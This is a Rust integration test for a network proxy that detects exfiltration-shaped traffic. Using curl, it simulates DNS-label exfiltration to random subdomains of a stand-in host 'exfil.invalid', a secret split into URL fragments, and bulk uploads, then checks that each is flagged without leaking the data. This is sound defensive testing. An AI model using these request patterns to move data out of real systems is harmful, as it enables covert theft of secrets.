//! Exfiltration by volume and shape through the real proxy with curl:
//! DNS-label exfiltration (many random subdomains of one domain), a secret
//! cut into URL fragments, and volume over the window; normal shapes (API
//! calls, package downloads) raise nothing. Evidence is summarised: no
//! label or fragment appears in a finding. Loopback only: the random hosts
//! are `.invalid` names the proxy cannot resolve (502), seen at the head.

mod common;

use traffic_guardian::core::shape::ShapeThresholds;
use traffic_guardian::proxy::ProxySettings;

use common::*;

#[tokio::test(flavor = "multi_thread")]
async fn dns_labels_fragments_and_volume_are_found_and_summarised() {
    let (up, _) = spawn_http_upstream().await;
    let settings = ProxySettings {
        shape: ShapeThresholds {
            dest_bytes: 1 << 20,
            dest_fragments: 20,
            dns_unique_labels: 10,
            ..ShapeThresholds::default()
        },
        ..test_settings()
    };
    let (engine, sink, paddr) = start_proxy(settings).await;
    let proxy = proxy_url(paddr);

    // Normal shapes first: repeated API calls and downloads to fixed hosts.
    for i in 0..15 {
        let r = curl(
            Some(&proxy),
            &format!("http://{up}/echo?n={i}"),
            &["--data", "{\"model\":\"m\"}"],
        )
        .await;
        assert_eq!(r.status, 200);
    }
    engine.scan_idle().await;
    assert!(sink.all().is_empty(), "{:?}", sink.all());

    let labels: Vec<String> = (0..12).map(|_| fake::label(28)).collect();
    let urls: Vec<String> = labels
        .iter()
        .map(|l| format!("http://{l}.exfil.invalid/"))
        .collect();
    let args: Vec<&str> = urls.iter().skip(1).map(String::as_str).collect();
    curl(Some(&proxy), &urls[0], &args).await;

    let frags: Vec<String> = (0..25).map(|_| fake::token(24)).collect();
    for chunk in frags.chunks(5) {
        let urls: Vec<String> = chunk
            .iter()
            .map(|f| format!("http://{up}/echo?d={f}"))
            .collect();
        let rest: Vec<&str> = urls.iter().skip(1).map(String::as_str).collect();
        curl(Some(&proxy), &urls[0], &rest).await;
    }

    let big = "x".repeat(700 << 10);
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(file.path(), &big).unwrap();
    let at = format!("@{}", file.path().display());
    for _ in 0..2 {
        curl(
            Some(&proxy),
            &format!("http://{up}/echo"),
            &["--data-binary", &at],
        )
        .await;
    }
    engine.scan_idle().await;
    let all = sink.all();
    let by = |p: &str| all.iter().filter(|f| f.pattern == p).collect::<Vec<_>>();
    let dns = by("dns_label_exfil");
    assert_eq!(dns.len(), 1, "{all:?}");
    assert_eq!(dns[0].dest, "[MASKED].exfil.invalid:80");
    assert!(dns[0].snippet.contains("10 unique"), "{}", dns[0].snippet);
    let frag = by("fragmented_exfil");
    assert_eq!(frag.len(), 1, "{all:?}");
    let vol = by("volume_anomaly");
    assert_eq!(vol.len(), 1, "{all:?}");
    assert!(vol[0].snippet.contains("MiB"), "{}", vol[0].snippet);
    let json = serde_json::to_string(&all).unwrap();
    for l in &labels {
        assert!(!json.contains(l.as_str()), "a label leaked: {json}");
    }
    for f in &frags {
        assert!(!json.contains(f.as_str()), "a fragment leaked: {json}");
    }
    engine.stop().await.unwrap();
}
